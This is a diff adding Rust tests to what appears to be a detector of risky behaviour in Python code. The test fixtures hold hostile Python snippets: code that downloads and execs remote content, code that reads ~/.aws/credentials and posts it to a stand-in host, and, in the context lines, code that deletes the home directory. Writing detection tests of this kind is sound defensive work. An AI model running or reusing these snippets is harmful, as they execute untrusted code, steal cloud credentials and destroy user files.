@@ -123,3 +123,20 @@ fn python_places() {
     py("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "deletes_file everything");
     py("import shutil\nshutil.rmtree('build')", "deletes_file build\n!deletes_file everything");
 }
+
+#[test]
+fn text_from_afar_that_is_decoded_and_cut() {
+    let remote = "remote_content cdn.dev-box.net -> eval";
+    for code in [
+        "r = urlopen('https://cdn.dev-box.net/a')\nexec(r.read().decode('utf-8'))",
+        "with urlopen('https://cdn.dev-box.net/a', timeout=6) as r:\n    body = r.read().decode('latin-1')\nexec(body)",
+        "with urlopen('https://cdn.dev-box.net/a') as r:\n    body = r.read().decode('latin-1')\nhead, _, program = body.partition('End')\neval(compile(program.lstrip(), 'x', 'exec'), {})",
+        "def f():\n    with urlopen('https://cdn.dev-box.net/a') as r:\n        body = r.read().decode('utf-8').split('---')[1].strip()\n    exec(body)\nf()",
+    ] {
+        py(&format!("from urllib.request import urlopen\n{code}\n"), remote);
+    }
+    py(
+        "import configparser, requests\nfrom pathlib import Path\nc = configparser.ConfigParser()\nc.read(Path.home() / '.aws' / 'credentials')\nrequests.post('https://in.dev-box.net/c', json={n: dict(c[n]) for n in c.sections()})\n",
+        "credential_file ~/.aws/credentials -> network_send in.dev-box.net",
+    );
+}
